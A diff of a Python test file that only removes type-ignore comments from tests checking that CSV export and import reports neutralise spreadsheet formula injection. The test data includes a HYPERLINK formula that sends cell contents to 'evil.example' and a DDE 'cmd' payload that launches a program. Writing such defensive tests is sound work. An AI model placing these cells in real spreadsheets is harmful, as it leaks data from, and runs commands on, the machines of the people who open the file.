@@ -19,17 +19,17 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(
 
 
 @pytest.mark.parametrize("value", FORMULAS)
-def test_formula_cells_are_neutralised(value) -> None:  # type: ignore[no-untyped-def]
+def test_formula_cells_are_neutralised(value) -> None:
     assert csvcell.neutralise(value) == "'" + value
 
 
 @pytest.mark.parametrize("value", ["Town Hall", "'quoted", "", "a=b", 12, -5, None])
-def test_other_cells_are_unchanged(value) -> None:  # type: ignore[no-untyped-def]
+def test_other_cells_are_unchanged(value) -> None:
     assert csvcell.neutralise(value) == value
 
 
 @pytest.fixture(scope="module")
-def formula_owner(seeded, make_org):  # type: ignore[no-untyped-def]
+def formula_owner(seeded, make_org):
     code = make_org()
     with write_transaction(seeded, "test-safe-outputs") as conn:
         for i, name in enumerate(FORMULAS[:4]):
@@ -38,7 +38,7 @@ def formula_owner(seeded, make_org):  # type: ignore[no-untyped-def]
     return code
 
 
-def test_csv_export_has_no_executable_cell(client, formula_owner, tmp_path) -> None:  # type: ignore[no-untyped-def]
+def test_csv_export_has_no_executable_cell(client, formula_owner, tmp_path) -> None:
     response = client.get(f"/exports/properties.csv?owner={formula_owner}")
     assert response.status_code == 200, response.text
     path = tmp_path / "export.csv"
@@ -52,7 +52,7 @@ def test_csv_export_has_no_executable_cell(client, formula_owner, tmp_path) -> N
     )
 
 
-def test_import_report_csv_has_no_executable_cell(seeded, make_org) -> None:  # type: ignore[no-untyped-def]
+def test_import_report_csv_has_no_executable_cell(seeded, make_org) -> None:
     code = make_org()
     source = "Asset Reference,Property Name,Post Code,GIA\r\n=cmd|' /C calc'!A0,Hall,WR1 2AB,=1+1\r\n"
     outcome = imports_svc.import_transparency(seeded, source.encode(), code, actor="test", dry_run=True)
@@ -62,7 +62,7 @@ def test_import_report_csv_has_no_executable_cell(seeded, make_org) -> None:  # 
     assert not [c for c in cells if c.startswith(csvcell.FORMULA_STARTS)]
 
 
-def test_html_pages_link_only_links(client, make_org, make_key) -> None:  # type: ignore[no-untyped-def]
+def test_html_pages_link_only_links(client, make_org, make_key) -> None:
     org = make_org()
     headers = auth_header(make_key(org, "writer"))
     created = client.post(
